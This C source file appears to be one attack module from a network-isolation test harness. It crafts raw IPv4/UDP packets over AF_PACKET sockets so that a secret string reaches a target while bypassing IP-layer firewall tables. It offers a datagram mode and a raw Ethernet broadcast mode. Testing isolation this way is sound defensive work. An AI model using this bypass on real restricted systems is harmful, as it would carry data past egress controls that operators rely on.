/* SPDX-License-Identifier: Apache-2.0 */
/* Frames, beneath IP: the table never sees them. */
#define _GNU_SOURCE
#include "attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <netpacket/packet.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

struct packet {
	struct iphdr ip;
	struct udphdr udp;
	char text[16];
};

static void fill(const struct scene *s, struct packet *p)
{
	uint32_t sum = 0;
	uint16_t words[10];

	memset(p, 0, sizeof(*p));
	p->ip.version = 4;
	p->ip.ihl = 5;
	p->ip.ttl = 64;
	p->ip.protocol = IPPROTO_UDP;
	p->ip.tot_len = htons(sizeof(*p));
	p->ip.saddr = s->own4.sin_addr.s_addr;
	p->ip.daddr = s->target4.sin_addr.s_addr;
	memcpy(words, &p->ip, sizeof(words));
	for (int i = 0; i < 10; i++)
		sum += words[i];
	sum = (sum & 0xffff) + (sum >> 16);
	p->ip.check = (uint16_t) ~(sum + (sum >> 16));
	p->udp.source = htons(4000);
	p->udp.dest = s->target4.sin_port;
	p->udp.len = htons(sizeof(*p) - sizeof(p->ip));
	memcpy(p->text, s->secret, strnlen(s->secret, 15));
}

/* To everybody on the link, the target among them. */
static struct sockaddr_ll everybody(void)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET,
				 .sll_protocol = htons(ETH_P_IP),
				 .sll_ifindex = (int)interface_index(),
				 .sll_halen = ETH_ALEN};

	memset(to.sll_addr, 0xff, ETH_ALEN);
	return to;
}

static enum verdict dgram(const struct scene *s)
{
	struct sockaddr_ll to = everybody();
	struct packet packet;
	int fd = new_socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));

	if (fd < 0)
		return failed("socket(AF_PACKET)");
	fill(s, &packet);
	if (sendto(fd, &packet, sizeof(packet), 0, (const void *)&to,
		   sizeof(to)) < 0)
		return failed("sendto");
	return say(THROUGH, "sent");
}

static enum verdict raw(const struct scene *s)
{
	struct sockaddr_ll to = everybody();
	struct {
		struct ether_header ether;
		struct packet packet;
	} __attribute__((packed)) frame = {0};
	struct packet packet;
	struct ifreq interface = {.ifr_name = "eth0"};
	int fd = new_socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));

	if (fd < 0)
		return failed("socket(AF_PACKET)");
	/* a bridge drops what comes from nobody */
	if (ioctl(fd, SIOCGIFHWADDR, &interface) != 0)
		return failed("SIOCGIFHWADDR");
	memcpy(frame.ether.ether_shost, interface.ifr_hwaddr.sa_data, ETH_ALEN);
	memset(frame.ether.ether_dhost, 0xff, ETH_ALEN);
	frame.ether.ether_type = htons(ETH_P_IP);
	fill(s, &packet);
	memcpy(&frame.packet, &packet, sizeof(packet));
	if (sendto(fd, &frame, sizeof(frame), 0, (const void *)&to,
		   sizeof(to)) < 0)
		return failed("sendto");
	return say(THROUGH, "sent");
}

const struct attack attack_packet = {
	"packet",
	(const struct mode[]){{"dgram", dgram}, {"raw", raw}, {0}},
};
